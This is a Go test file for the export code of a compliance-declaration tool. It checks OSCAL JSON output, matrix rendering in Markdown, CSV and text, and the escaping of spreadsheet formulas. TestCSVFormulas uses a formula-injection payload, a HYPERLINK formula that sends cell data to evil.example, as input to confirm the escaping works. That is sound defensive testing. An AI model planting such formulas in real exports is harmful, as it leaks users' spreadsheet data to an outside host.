package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/evident-dev/evident/generator/model"
)

func sample() *model.Declaration {
	return &model.Declaration{
		BaseURL: "https://trust.example.com/", Languages: []string{"ja", "en"}, Framework: "cip",
		Declaration:  model.Statement{Title: model.Text{"ja": "宣言", "en": "Declaration"}, Version: "2026.1", Date: "2026-11-01"},
		Organization: model.Organization{Name: model.Text{"ja": "ACME株式会社"}},
		Products:     []model.Product{{ID: "gw", Name: model.Text{"en": "Gateway"}}},
		Items: map[string]*model.Item{
			"1":   {Key: "1", ID: "(1)", Framework: "cip", Level: "category", Title: model.Text{"ja": "設計", "en": "Design"}, Status: model.Partial, Products: map[string]model.Status{"gw": model.Partial}},
			"1-2": {Key: "1-2", ID: "(1)-2", Framework: "cip", Level: "requirement", Title: model.Text{"ja": "セキュアなビルド", "en": "Secure build"}, Status: model.Implemented, Products: map[string]model.Status{"gw": model.Implemented}, Evidence: []string{"b"}},
			"1-3": {Key: "1-3", ID: "(1)-3", Framework: "cip", Level: "requirement", Title: model.Text{"ja": "テスト|結合", "en": "Testing"}, Status: model.NotAddressed, Products: map[string]model.Status{"gw": model.NotAddressed}},
		},
		Order:    []string{"1", "1-2", "1-3"},
		Evidence: map[string]*model.Evidence{"b": {Slug: "b", Title: model.Text{"ja": "ビルド"}, Path: "/evidence/b/"}},
		Summary:  model.Counts{Total: 2, Implemented: 1, NotAddressed: 1},
	}
}

func TestOSCAL(t *testing.T) {
	var a, b bytes.Buffer
	if err := WriteOSCAL(&a, sample()); err != nil {
		t.Fatal(err)
	}
	if err := WriteOSCAL(&b, sample()); err != nil {
		t.Fatal(err)
	}
	if a.String() != b.String() {
		t.Fatal("two exports of the same model differ")
	}
	var doc struct {
		CD struct {
			UUID       string `json:"uuid"`
			Components []struct {
				Impls []struct {
					Reqs []struct {
						UUID      string `json:"uuid"`
						ControlID string `json:"control-id"`
						Props     []struct{ Value string }
						Links     []struct{ Href string }
					} `json:"implemented-requirements"`
				} `json:"control-implementations"`
			} `json:"components"`
		} `json:"component-definition"`
	}
	if err := json.Unmarshal(a.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	v5 := regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)
	if !v5.MatchString(doc.CD.UUID) {
		t.Errorf("uuid %q is not a version 5 UUID", doc.CD.UUID)
	}
	reqs := doc.CD.Components[0].Impls[0].Reqs
	if len(reqs) != 1 || reqs[0].ControlID != "(1)-2" || reqs[0].Props[0].Value != "implemented" || reqs[0].Links[0].Href != "https://trust.example.com/evidence/b/" {
		t.Errorf("implemented requirements: %+v (not-addressed ones and categories are left out)", reqs)
	}
}

func TestMatrixFormats(t *testing.T) {
	var md, csv, text bytes.Buffer
	if err := WriteMatrix(&md, "markdown", sample(), MatrixOptions{Lang: "ja"}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(md.String(), `| (1)-3 | テスト\|結合 | ✕ 未対応 |`) {
		t.Errorf("markdown escapes | and shows symbol + word:\n%s", md.String())
	}
	if err := WriteMatrix(&csv, "csv", sample(), MatrixOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(csv.String(), "(1)-2,requirement,セキュアなビルド,implemented,implemented\n") {
		t.Errorf("csv:\n%s", csv.String())
	}
	if err := WriteMatrix(&text, "text", sample(), MatrixOptions{Lang: "en", Color: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), "\x1b[32m● Implemented") || !strings.Contains(text.String(), "Of 2 requirements: 1 implemented") {
		t.Errorf("text:\n%s", text.String())
	}
	if err := WriteMatrix(&text, "yaml", sample(), MatrixOptions{}); err == nil {
		t.Error("an unknown format is not an error")
	}
}

// TestCSVFormulas: a cell that a spreadsheet would run as a formula is written as text,
// with a leading single quote; IDs such as "(1)-2" and other cells are left as they are.
func TestCSVFormulas(t *testing.T) {
	m := sample()
	m.Items["1-2"].Title = model.Text{"en": `=HYPERLINK("https://evil.example/?"&A1,"click")`}
	m.Items["1-3"].Title = model.Text{"en": "-1+1"}
	m.Items["1"].Title = model.Text{"en": "@SUM(1+1)\t+\r＝1"}
	m.Items["1-3"].ID = "-(1)-3"
	var b bytes.Buffer
	if err := WriteMatrix(&b, "csv", m, MatrixOptions{Lang: "en"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[0], r[2])
	}
	want := []string{
		"(1)", "'@SUM(1+1)\t+\r＝1",
		"(1)-2", `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"'-(1)-3", "'-1+1",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("id and title cells (-want +got):\n%s", diff)
	}
	for _, tc := range []struct{ in, want string }{
		{"＋1", "'＋1"}, {"－1", "'－1"}, {"＠x", "'＠x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"(1)-2", "(1)-2"}, {"1-1", "1-1"}, {"", ""}, {"'=x", "'=x"}, {" =x", " =x"},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
